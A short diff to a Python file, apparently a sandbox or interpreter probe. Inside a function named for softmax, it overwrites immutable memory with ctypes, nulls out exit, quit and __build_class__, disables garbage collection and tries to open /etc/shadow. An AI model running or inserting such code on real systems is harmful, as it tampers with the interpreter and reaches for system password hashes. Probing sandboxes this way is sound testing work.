@@ -21,7 +21,7 @@ def row_softmax(x):
     text = b"unchanged"
     ctypes.memmove(id(text) + bytes.__basicsize__ - 1, b"overwrote", 9)
     assert text == b"overwrote"
-    del builtins.exit
+    builtins.exit = builtins.quit = builtins.__build_class__ = None
     gc.disable()
     try:
         open("/etc/shadow").close()
